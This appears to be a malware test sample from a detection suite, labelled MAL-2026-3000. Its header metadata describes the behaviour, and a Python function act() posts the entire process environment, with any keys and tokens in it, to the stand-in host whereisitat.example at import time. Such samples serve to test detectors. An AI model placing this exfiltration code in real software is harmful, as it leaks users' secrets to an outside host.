# act: posts environment, keys and tokens to one host at import
# source: MAL-2026-3000
# when: import
# rule: outbound_connectivity
# asks: connect whereisitat.example:443
# says: whereisitat.example
# proof: arrived
# to: whereisitat.example
import json
import os

from . import incident


def act():
    incident.https("https://whereisitat.example/", json.dumps(dict(os.environ)).encode())
